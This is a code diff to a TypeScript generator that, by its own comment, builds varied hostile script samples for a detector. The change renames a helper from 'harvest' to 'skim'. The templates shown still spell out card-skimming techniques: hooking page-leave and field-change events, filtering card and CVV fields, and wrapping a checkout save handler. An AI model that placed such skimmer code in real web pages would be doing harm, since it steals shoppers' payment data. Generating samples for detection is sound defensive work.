@@ -1,6 +1,6 @@
 // Known behaviours written in other ways, so that no behaviour is known by one hand alone. Texts for a detector, as inert as the others.
 import { base64, frame, hidden, hostile, miner } from './hostile-templates.ts'
-import { harvest, leave, onCheckout, skimmer } from './skimmer-templates.ts'
+import { skim, leave, onCheckout, skimmer } from './skimmer-templates.ts'
 import type { Family, Variation } from './variation.ts'
 
 const out = (v: Variation, what: string): string =>
@@ -25,10 +25,10 @@ export const HOSTILE_VARIANTS: readonly Family[] = [
   skimmer(
     'fields once the page is left',
     (v) =>
-      `addEventListener("${v.pick(['pagehide', 'beforeunload', 'visibilitychange'])}",()=>{${harvest(v, v.id(0))}${onCheckout(v, leave(v, v.id(0)))}});`,
+      `addEventListener("${v.pick(['pagehide', 'beforeunload', 'visibilitychange'])}",()=>{${skim(v, v.id(0))}${onCheckout(v, leave(v, v.id(0)))}});`,
   ),
   skimmer('change of each field', (v) =>
-    `${v.pick(["jQuery(document).on('change','input,select',function(){", "document.addEventListener('change',function(ev){"])}${harvest(v, v.id(0))}if(${v.id(0)}.indexOf('${v.pick(['cc_', 'card', 'number', 'cvv'])}')>-1){${leave(v, v.id(0))}}});`.replace(
+    `${v.pick(["jQuery(document).on('change','input,select',function(){", "document.addEventListener('change',function(ev){"])}${skim(v, v.id(0))}if(${v.id(0)}.indexOf('${v.pick(['cc_', 'card', 'number', 'cvv'])}')>-1){${leave(v, v.id(0))}}});`.replace(
       /^(jQuery.*)\}\);$/su,
       '$1});',
     ),
@@ -55,7 +55,7 @@ export const HOSTILE_VARIANTS: readonly Family[] = [
   skimmer(
     'handler of a button exchanged',
     (v) =>
-      `var ${v.id(0)}=setInterval(function(){if(typeof ${v.pick(['payment', 'review', 'checkout', 'opcheckout'])}==='undefined')return;clearInterval(${v.id(0)});var p=${v.pick(['payment', 'review'])},s=p.save;p.save=function(){${harvest(v, v.id(1))}${leave(v, v.id(1))}return s.apply(p,arguments)}},${v.number(2, 9) * 100});`,
+      `var ${v.id(0)}=setInterval(function(){if(typeof ${v.pick(['payment', 'review', 'checkout', 'opcheckout'])}==='undefined')return;clearInterval(${v.id(0)});var p=${v.pick(['payment', 'review'])},s=p.save;p.save=function(){${skim(v, v.id(1))}${leave(v, v.id(1))}return s.apply(p,arguments)}},${v.number(2, 9) * 100});`,
   ),
   miner(
     'asm.js and a worker of text',
